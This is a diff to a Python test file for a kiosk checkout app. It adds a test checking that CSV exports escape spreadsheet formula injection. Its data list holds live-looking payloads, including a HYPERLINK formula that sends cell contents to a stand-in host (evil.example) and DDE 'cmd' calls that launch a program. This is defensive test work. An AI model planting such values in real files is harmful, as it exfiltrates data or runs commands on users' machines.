@@ -2,8 +2,9 @@ from __future__ import annotations
 
 import csv
 import json
+from dataclasses import replace
 
-from kiosk.checkout.export import export_order
+from kiosk.checkout.export import export_order, write_order
 from kiosk.checkout.settings import save_studio_details
 from kiosk.cli import checkout as cli_checkout
 from tests.checkout.conftest import DEMO, STUDIO
@@ -107,3 +108,41 @@ def test_the_outbox_command_lists_what_waits(studio, invoice, capsys):
     assert "No mail server is set up" in captured.err
     assert "eleanor@example.com  Your invoice 0001 from Golden Hour Portraits" in captured.out
     assert "Queued." in captured.out
+
+
+# What a spreadsheet program runs as a formula (or a DDE call) when it opens a CSV.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click for the proofs")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def runs_as_formula(cell: str) -> bool:
+    """A spreadsheet-like reading: a cell starting with one of these is a formula, unless
+    it is a plain signed number or amount (which a spreadsheet reads as a number)."""
+    if not cell or cell[0] not in "=+-@\t\r":
+        return False
+    rest = cell[1:].replace("$", "").replace(",", "").replace(".", "").replace(" ", "")
+    return not (cell[0] in "+-" and rest.isdigit())
+
+
+def test_notes_and_file_names_that_look_like_formulas_are_written_as_text(invoice, tmp_path):
+    images = tuple(
+        replace(image, note=FORMULAS[n % len(FORMULAS)], file_name=FORMULAS[-1 - n % 6] + ".jpg")
+        for n, image in enumerate(invoice.images)
+    )
+    folder = write_order(replace(invoice, images=images), tmp_path / "out")
+    files = read_csv(folder / "files.csv")
+    lines = read_csv(folder / "lines.csv")
+    cells = [cell for row in files + lines for cell in row.values()]
+    assert not [cell for cell in cells if runs_as_formula(cell)]
+    # Nothing lost: the text after the apostrophe is what the photographer typed.
+    notes = [row["retouch_note"] for row in files]
+    assert notes == ["'" + FORMULAS[n % len(FORMULAS)] for n in range(len(images))]
+    # Amounts stay numbers, negative ones too (the discount lines).
+    assert sum(int(row["amount_minor"]) for row in lines) == invoice.total
+    assert any(row["amount"].startswith("-") for row in lines)
